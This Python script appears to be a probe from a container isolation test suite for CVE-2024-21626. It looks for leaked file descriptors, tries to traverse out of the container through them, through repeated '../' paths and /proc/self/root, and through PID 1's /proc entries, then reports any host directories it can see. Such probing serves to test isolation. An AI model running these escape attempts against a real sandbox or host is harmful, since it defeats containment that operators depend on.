"""Looks for a descriptor that was left open, and for a way out through a directory (CVE-2024-21626)."""

import os

from base import attempt, got, tried

OUTSIDE = {"scaffold", "tree", "upper", "job"}


def look(directory: str) -> None:
    found = OUTSIDE & set(os.listdir(directory))
    if found:
        got("sees", directory, sorted(found))


for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except FileNotFoundError:
        continue  # the listing's own
    if fd > 3:
        got("holds", fd, target)
    attempt(f"leaves by {fd}", lambda fd=fd: os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd))
    attempt(f"finds by {fd}", lambda fd=fd: os.listdir(f"/proc/self/fd/{fd}/../"))

if not os.getcwd().startswith("/"):
    got("is outside", os.getcwd())
for way in ("/" + "../" * 30, "../" * 30, "/proc/self/cwd/../../..", "/proc/self/root/..", "/proc/thread-self/root/.."):
    look(way)
if os.getpid() != 1:
    for name in ("root", "cwd", "exe", "ns/mnt"):
        attempt(f"first process: {name}", lambda name=name: os.readlink(f"/proc/1/{name}"))
    for name in os.listdir("/proc/1/fd"):
        attempt(f"first process: {name}", lambda name=name: os.readlink(f"/proc/1/fd/{name}"))
        attempt(f"opens {name}", lambda name=name: os.open(f"/proc/1/fd/{name}", os.O_PATH))
        attempt(f"opens below {name}", lambda name=name: os.open(f"/proc/1/fd/{name}/..", os.O_RDONLY))
tried()
